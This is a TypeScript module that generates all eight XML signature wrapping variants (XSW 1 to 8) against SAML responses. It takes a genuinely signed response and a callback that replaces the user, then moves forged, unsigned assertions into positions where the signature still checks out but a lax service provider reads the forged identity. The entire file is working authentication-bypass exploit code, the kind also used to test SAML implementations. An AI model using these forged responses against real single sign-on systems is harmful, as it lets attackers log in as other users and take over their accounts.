// Makes the eight known signature wrapping attacks (XSW 1 to 8). The signature stays valid, but a careless server reads
// a forged part.

interface SamlResponseParts {
  /** The text of the document before its one assertion. */
  before: string
  assertion: string
  after: string
  signature: string
}

function partsOf(xml: string): SamlResponseParts {
  const [assertion = ''] = /<saml:Assertion[^]*<\/saml:Assertion>/u.exec(xml) ?? []
  const [signature = ''] = /<Signature [^]*?<\/Signature>/u.exec(assertion) ?? []
  const [before = '', after = ''] = xml.split(assertion)
  return { before, assertion, after, signature }
}

const unsigned = (xml: string) => xml.replaceAll(/<Signature [^]*?<\/Signature>/gu, '')
const renamed = (xml: string) => xml.replace(/ ID="[^"]+"/u, ' ID="_wrapped"')
const withSignature = (assertion: string, signature: string) =>
  assertion.replace('</saml:Issuer>', `</saml:Issuer>${signature}`)
const withObject = (signature: string, content: string) =>
  signature.replace('</Signature>', `<Object>${content}</Object></Signature>`)

/** @param forge  Replaces the user in a document. */
export function wrappingAttacks(
  xml: string,
  forge: (xml: string) => string,
): Record<string, string> {
  const { before, assertion, after, signature } = partsOf(xml)
  const forgedAssertion = renamed(forge(unsigned(assertion)))
  const [root = ''] = /<Signature [^]*?<\/Signature>/u.exec(before) ?? []
  const forgedResponse = renamed(forge(unsigned(xml)))
  const withContent = (content: string) => `${unsigned(before)}${content}${after}`
  const intoResponse = (content: string) =>
    forgedResponse.replace('</saml:Issuer>', `</saml:Issuer>${content}`)
  const aroundContent = (content: string) =>
    forgedAssertion.replace('</saml:Assertion>', `${content}</saml:Assertion>`)
  return {
    'a response inside the signature of another': intoResponse(withObject(root, unsigned(xml))),
    'a response beside its signature, in another': intoResponse(`${unsigned(xml)}${root}`),
    'another assertion before it': withContent(`${forgedAssertion}${assertion}`),
    'another assertion around it': withContent(aroundContent(assertion)),
    'its signature on another assertion': withContent(
      `${withSignature(forgedAssertion, signature)}${unsigned(assertion)}`,
    ),
    'itself inside its signature on another': withContent(
      withSignature(forgedAssertion, withObject(signature, unsigned(assertion))),
    ),
    'another assertion among extensions': withContent(
      `<samlp:Extensions>${forgedAssertion}</samlp:Extensions>${assertion}`,
    ),
    'itself as an object of the signature of another': withContent(
      withSignature(aroundContent(`<Object>${unsigned(assertion)}</Object>`), signature),
    ),
  }
}
